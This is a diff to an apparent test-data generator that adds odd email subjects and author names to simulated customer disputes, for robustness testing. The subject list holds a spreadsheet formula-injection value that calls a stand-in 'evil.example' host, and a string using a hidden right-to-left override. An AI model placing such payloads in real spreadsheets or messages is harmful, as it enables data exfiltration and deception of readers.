@@ -94,3 +94,29 @@ def make_odd(case: Case, place: int, hostility: str) -> None:
         throw = dice(case.dispute_id, "oddities")
         for spoil in throw.sample(ALL, throw.choice((1, 2, 3))):
             spoil(case)
+
+
+ODD_SUBJECTS = (
+    '=IMPORTXML("https://evil.example","//a")',
+    "+49 please call me",
+    "-- no subject --",
+    "@everyone where is my order",
+    "Où est ma commande 😡\u202e!won\u202c",
+    "\tRe: Re: RE: AW: Fwd: order",
+    "",
+    "Order " * 60,
+)
+
+
+def odd_subject(subject: str, name: str, hostility: str) -> str:
+    """Return *subject*, or an odd one: for one letter in a hundred, in a hostile world for every third."""
+    share = {"none": 0.0, "little": 0.01}.get(hostility, 0.33)
+    throw = dice(name, "odd subject")
+    return throw.choice(ODD_SUBJECTS) if throw.random() < share else subject
+
+
+def odd_name(display_name: str, name: str, hostility: str) -> str:
+    """Return *display_name*, or an odd one: for one author in sixty, in a hostile world for every third."""
+    share = {"none": 0.0, "little": 0.017}.get(hostility, 0.33)
+    throw = dice(name, "odd author")
+    return throw.choice(FORMULA_NAMES) if throw.random() < share else display_name
